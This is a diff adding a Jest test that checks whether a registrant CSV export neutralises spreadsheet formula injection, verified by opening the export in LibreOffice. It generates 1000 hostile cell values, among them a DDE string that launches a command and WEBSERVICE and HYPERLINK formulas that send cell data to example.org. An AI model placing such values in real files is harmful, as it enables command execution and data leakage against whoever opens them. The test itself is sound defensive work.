@@ -1,0 +1,82 @@
+import { harmlessText } from '@raade/contracts/spreadsheet-text';
+import { parse } from 'csv-parse/sync';
+import { sampleRegistrant } from '../testing/sample-registrant.ts';
+import { type Spreadsheet, startSpreadsheet } from '../testing/spreadsheet.ts';
+import { csvOf, csvStart } from './registrants-csv.ts';
+
+const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+const BEFORE = ['', ' ', '\t', '\u00a0', "'"];
+const FORMULAS = [
+  '1+1',
+  'SUM(1,2)',
+  'A1',
+  'HYPERLINK("https://example.org/?"&A1,"Open")',
+  'WEBSERVICE("https://example.org")',
+  'IMPORTXML("https://example.org","//a")',
+  "cmd|' /C calc'!A0",
+  'DDE("soffice","a","b")',
+  '1/0',
+  'NOSUCHFUNCTION(1)',
+  '=1+1',
+  '+1+1',
+  '-1',
+  '@SUM(1)',
+  '"1"&"2"',
+  'INDIRECT("A"&1)',
+  '1;=1+1',
+  '{1,2}',
+  '2025-03-01',
+];
+/** Every sign before every formula, with what may stand before the sign. */
+const HOSTILE = BEFORE.flatMap((before) =>
+  SIGNS.flatMap((sign) => FORMULAS.map((formula) => before + sign + formula)),
+).slice(0, 1000);
+
+const registrants = HOSTILE.map((text, index) =>
+  sampleRegistrant({ id: `sample-${index}`, full_name: text }),
+);
+const exported = csvStart() + csvOf(registrants);
+
+const formulas = (xml: string) => xml.match(/table:formula="[^"]*"/g) ?? [];
+const errors = (xml: string) =>
+  xml.match(/calcext:value-type="error"|#(?:REF|NAME|VALUE)[!?]/g) ?? [];
+/** Spreadsheets know one kind of line break. */
+const oneKindOfBreak = (text: string) => text.replace(/\r\n?/g, '\n');
+
+let spreadsheet: Spreadsheet;
+
+jest.setTimeout(120_000);
+
+beforeAll(async () => {
+  const office = process.env['LIBREOFFICE'];
+  if (!office) throw new Error('Run `npm run test:spreadsheets`.');
+  spreadsheet = await startSpreadsheet(office);
+});
+
+afterAll(() => spreadsheet.close());
+
+test('there are a thousand hostile cells, and they do harm as they are', async () => {
+  expect(HOSTILE).toHaveLength(1000);
+  const quoted = HOSTILE.map((text) => `"${text.replaceAll('"', '""')}"\r\n`).join('');
+  expect(formulas(await spreadsheet.savedAs(quoted, 'ods')).length).toBeGreaterThan(10);
+});
+
+test.each(['ods', 'xlsx'] as const)(
+  'none of them is a formula or an error in %s',
+  async (format) => {
+    const xml = await spreadsheet.savedAs(exported, format);
+    expect(xml).toContain('sample-999');
+    expect(formulas(xml)).toEqual([]);
+    expect(errors(xml)).toEqual([]);
+  },
+);
+
+test('saved as CSV again, each of them is the text that was exported', async () => {
+  const lines: Record<string, string>[] = parse(await spreadsheet.savedAsCsv(exported), {
+    bom: true,
+    columns: true,
+  });
+  expect(lines.map((line) => oneKindOfBreak(line['Full Name'] ?? ''))).toEqual(
+    HOSTILE.map((text) => oneKindOfBreak(harmlessText(text))),
+  );
+});
